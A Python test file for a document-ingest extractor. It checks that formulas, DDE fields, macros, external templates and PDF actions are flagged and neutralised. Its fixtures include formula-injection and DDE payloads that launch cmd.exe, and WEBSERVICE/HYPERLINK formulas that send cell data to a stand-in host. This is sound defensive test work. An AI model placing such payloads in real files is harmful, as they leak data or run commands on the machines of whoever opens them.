"""What another program would run, fetch or send is told to the admin; nothing of it lives on with us."""

import pytest

from rag.ingest.extract import FileExtractor
from tests.ingest.files import make_pptx, make_xlsx
from tests.ingest.test_beside import plain_docx, with_object, with_parts

ELSEWHERE = (
    "<Relationships><Relationship Id='r' Type='http://x/{kind}' Target='http://a.example/' {mode}/></Relationships>"
)
OUTSIDE = "TargetMode='External'"


def sheet(formula: str) -> bytes:
    return with_parts(make_xlsx(), {"xl/worksheets/sheet9.xml": f"<s><c><f>{formula}</f><v>1</v></c></s>"})


def relation(kind: str, mode: str = OUTSIDE) -> bytes:
    return with_parts(plain_docx(), {"word/_rels/extra.xml.rels": ELSEWHERE.format(kind=kind, mode=mode)})


def field(instruction: str) -> bytes:
    return with_parts(plain_docx(), {"word/extra.xml": f"<p><instrText>{instruction}</instrText></p>"})


LIVE = [
    ("a.xlsx", sheet('WEBSERVICE("https://a.example/"&amp;A1)')),
    ("a.xlsx", sheet('HYPERLINK("https://a.example/?q="&amp;A1,"open")')),
    ("a.xlsx", sheet("cmd|'/C calc'!A0")),
    ("a.xlsm", with_parts(make_xlsx(), {"xl/vbaProject.bin": b"\x00\x01"})),
    ("a.pptm", with_parts(make_pptx(), {"ppt/vbaProject.bin": b"\x00\x01"})),
    ("a.docx", relation("attachedTemplate")),
    ("a.docx", relation("image")),
    ("a.docx", field("DDEAUTO c:\\windows\\cmd.exe")),
    ("a.docx", field('INCLUDEPICTURE "https://a.example/p.png"')),
    ("a.csv", b'Site,Crates\nLeeds,=WEBSERVICE("https://a.example")\n'),
    ("a.csv", b'Site,Crates\nLeeds,"=HYPERLINK(""https://a.example/?q=""&A1,""x"")"\n'),
    ("a.csv", b"Site,Crates\nLeeds,=cmd|'/C calc'!A0\n"),
    ("a.pdf", with_object(b"<</S/JavaScript/JS(1)>>")),
    ("a.pdf", with_object(b"<</S /Launch /F (a)>>")),
]
STILL = [
    ("a.xlsx", sheet("SUM(A1:A9)")),
    ("a.xlsx", sheet('HYPERLINK("https://a.example/help","help")')),
    ("a.docx", relation("hyperlink")),
    ("a.docx", relation("image", "")),
    ("a.docx", field('HYPERLINK "https://a.example/"')),
    ("a.csv", b"Site,Note\nLeeds,- please call (030) 123\nHull,=SUM(A1)\n"),
    ("a.pdf", with_object(b"<</S/URI/URI(https://a.example)>>")),
]


@pytest.mark.parametrize(("name", "data"), LIVE)
def test_what_is_alive_is_told(extractor: FileExtractor, name: str, data: bytes) -> None:
    assert any("made harmless (1)" in warning for warning in extractor.extract(name, data).warnings)


@pytest.mark.parametrize(("name", "data"), STILL)
def test_what_only_points_or_counts_is_not_told(extractor: FileExtractor, name: str, data: bytes) -> None:
    assert not any("made harmless" in warning for warning in extractor.extract(name, data).warnings)


def test_no_formula_of_a_sheet_is_in_the_text(extractor: FileExtractor) -> None:
    assert "WEBSERVICE" not in extractor.extract("a.xlsx", LIVE[0][1]).text
